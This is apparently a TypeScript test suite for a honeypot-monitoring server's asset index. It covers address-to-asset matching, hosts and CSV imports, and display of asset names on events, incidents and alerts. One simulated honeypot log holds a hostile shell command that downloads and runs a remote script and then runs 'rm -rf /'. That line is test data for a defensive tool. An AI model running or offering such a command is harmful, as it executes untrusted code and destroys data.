import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createAssetIndex } from '../../src/geo/asset-index.ts';
import { openTestServer } from '../support/server.ts';

describe('assets', () => {
  it('say whose an address is: the narrowest network, and of equal ones the first', () => {
    const entry = (network: string, name: string) => ({
      network,
      name,
      owner: null,
      role: null,
      location: null,
    });
    const find = createAssetIndex([
      {
        name: 'a',
        entries: [entry('10.0.0.0/8', 'office'), entry('10.0.3.17', 'first'), entry('2001:db8::/32', 'six')],
      },
      {
        name: 'b',
        entries: [entry('10.0.3.17', 'second'), entry('10.0.3.0/24', 'floor 3'), entry('nonsense', 'x')],
      },
    ]);
    for (const [address, expected] of [
      ['10.0.3.17', 'first'],
      ['10.0.3.18', 'floor 3'],
      ['::ffff:10.0.4.1', 'office'],
      ['11.0.0.1', undefined],
      ['2001:db8:1::1', 'six'],
      ['fe80::1%eth0', undefined],
      ['fin-laptop', undefined],
    ] as const)
      assert.equal(find(address)?.name, expected, address);
    assert.equal(
      createAssetIndex([{ name: 'all', entries: [entry('0.0.0.0/0', 'v4')] }])('9.9.9.9')?.name,
      'v4',
    );
  });

  it('come from files and from people, and stand beside the address everywhere', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const [user, other] = [await server.createUser(), await server.createUser()];
    const { headers } = user;
    const put = <T>(body: unknown) => server.call<T>('PUT', '/api/assets', { headers, body });
    const content = '127.0.0.1 localhost\n10.0.0.7 fin-7.example fin-7\nnot-an-address x\n';
    const file = await put<{ id: string; assets: number; rejected: number; rejections: { line: number }[] }>({
      name: '/etc/hosts',
      format: 'hosts',
      content,
    });
    assert.equal(file.status, 200, JSON.stringify(file.body));
    assert.deepEqual([file.body.assets, file.body.rejected, file.body.rejections[0]?.line], [1, 1, 3]);
    await put({
      name: 'list',
      entries: [{ network: '10.0.0.0/24', owner: 'finance', location: 'Lyon\u202e' }],
    });
    const csv = 'address,name,owner\n10.0.0.9,backup,ops\n';
    assert.equal((await put({ name: 'cmdb.csv', format: 'csv', content: csv })).status, 200);
    const node = await server.createNode(user);
    const send = (source_ip: string) =>
      server.call('POST', '/api/honeypot-log', {
        headers: { 'x-node-key': node.key },
        body: {
          timestamp: new Date().toISOString(),
          service: 'ssh',
          source_ip,
          activity: 'command',
          payload: 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh; rm -rf /',
        },
      });
    for (const source of ['10.0.0.7', '10.0.0.8', '192.0.2.1']) await send(source);
    type Shown = {
      items: {
        source_ip: string;
        asset: { name: string | null; owner: string | null; source: string } | null;
      }[];
    };
    const get = async (path: string): Promise<Shown> =>
      (await server.call<Shown>('GET', path, { headers })).body;
    for (const path of ['/api/events', '/api/incidents', '/api/attackers']) {
      const items = Object.fromEntries((await get(path)).items.map((one) => [one.source_ip, one.asset]));
      assert.equal(items['10.0.0.7']?.name, 'fin-7.example', path);
      assert.equal(items['10.0.0.8']?.owner, 'finance', path);
      assert.equal(items['192.0.2.1'], null, path);
    }
    for (const path of ['/api/alerts', '/api/recent-attacks']) {
      const { body } = await server.call<Shown['items']>('GET', path, { headers });
      const alert = body.find(({ source_ip }) => source_ip === '10.0.0.7');
      assert.equal(alert?.asset?.name, 'fin-7.example', path);
    }
    const { items: tops } = (
      await server.call<{ items: { name: string; asset: { name: string } | null }[] }>('GET', '/api/top', {
        headers,
      })
    ).body;
    assert.equal(tops.find(({ name }) => name === '10.0.0.7')?.asset?.name, 'fin-7.example');
    const values = await server.call<{ items: { value: string; asset: { name: string } | null }[] }>(
      'GET',
      '/api/observables?kind=address',
      { headers },
    );
    assert.equal(values.body.items.find(({ value }) => value === '10.0.0.7')?.asset?.name, 'fin-7.example');
    const searched = await server.call<{ groups: { group: string; items: { detail: string }[] }[] }>(
      'GET',
      '/api/search?q=10.0.0.7',
      { headers },
    );
    assert.match(
      searched.body.groups.find(({ group }) => group === 'attackers')?.items[0]?.detail ?? '',
      /^fin-7\.example, /,
    );
    const [incident] = (await get('/api/incidents?source=10.0.0.7')).items as unknown as {
      incident_id: string;
      version: number;
    }[];
    const found = await server.call<{ alerts: Shown['items'] }>(
      'GET',
      `/api/incidents/${incident?.incident_id}`,
      { headers },
    );
    assert.equal(found.body.alerts[0]?.asset?.name, 'fin-7.example');
    const judged = await server.call<{ asset: { name: string } | null }>(
      'POST',
      `/api/incidents/${incident?.incident_id}/verdict`,
      { headers, body: { verdict: 'attack' } },
    );
    assert.equal(judged.body.asset?.name, 'fin-7.example', JSON.stringify(judged.body));
    const changed = await server.call<{ results: { incident: Shown['items'][0] | null }[] }>(
      'POST',
      '/api/incidents/bulk',
      {
        headers,
        body: { incidents: [{ incident_id: incident?.incident_id }], status: 'acknowledged' },
      },
    );
    assert.equal(
      changed.body.results[0]?.incident?.asset?.name,
      'fin-7.example',
      JSON.stringify(changed.body),
    );
    const exported = await server.app.inject({ method: 'GET', url: '/api/attackers/export', headers });
    assert.match(exported.body, /fin-7\.example/);
    const again = await put<{ id: string }>({
      name: '/etc/hosts',
      format: 'hosts',
      content: '10.0.0.7 renamed\n',
    });
    assert.equal(again.body.id, file.body.id);
    const shown = (await get('/api/attackers')).items.find(({ source_ip }) => source_ip === '10.0.0.7');
    assert.equal(shown?.asset?.name, 'renamed');
    const detail = await server.call<{ entries: unknown[] }>('GET', `/api/assets/${file.body.id}`, {
      headers,
    });
    assert.equal(detail.body.entries.length, 1);
    assert.equal((await server.call('DELETE', `/api/assets/${file.body.id}`, { headers })).status, 200);
    const after = (await get('/api/attackers')).items.find(({ source_ip }) => source_ip === '10.0.0.7');
    assert.equal(after?.asset?.owner, 'finance');
    const theirs = await server.call<{ sources: unknown[] }>('GET', '/api/assets', {
      headers: other.headers,
    });
    assert.deepEqual(theirs.body.sources, []);
    assert.equal((await server.call('GET', '/api/assets')).status, 401);
  });

  it('are refused with what is wrong', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const { headers } = await server.createUser();
    const entry = { network: '10.0.0.7', name: 'x' };
    for (const body of [
      { name: 'x' },
      { name: '', entries: [] },
      { name: 'x', content: 'a', entries: [] },
      { name: 'x', content: 'a', format: 'excel' },
      { name: 'x', content: 'a,b\n1,2\n', format: 'csv' },
      { name: 'x', entries: [{ network: '10.0.0.300', name: 'x' }] },
      { name: 'x', entries: [{ network: '10.0.0.7' }] },
      { name: 'x', entries: [entry, entry] },
      { name: 'x', entries: [{ ...entry, name: 7 }] },
    ])
      assert.equal(
        (await server.call('PUT', '/api/assets', { headers, body })).status,
        422,
        JSON.stringify(body),
      );
    for (let n = 0; n < 20; n++)
      assert.equal(
        (await server.call('PUT', '/api/assets', { headers, body: { name: `f${n}`, entries: [entry] } }))
          .status,
        200,
      );
    const last = await server.call('PUT', '/api/assets', {
      headers,
      body: { name: 'one more', entries: [entry] },
    });
    assert.equal(last.status, 409);
  });
});
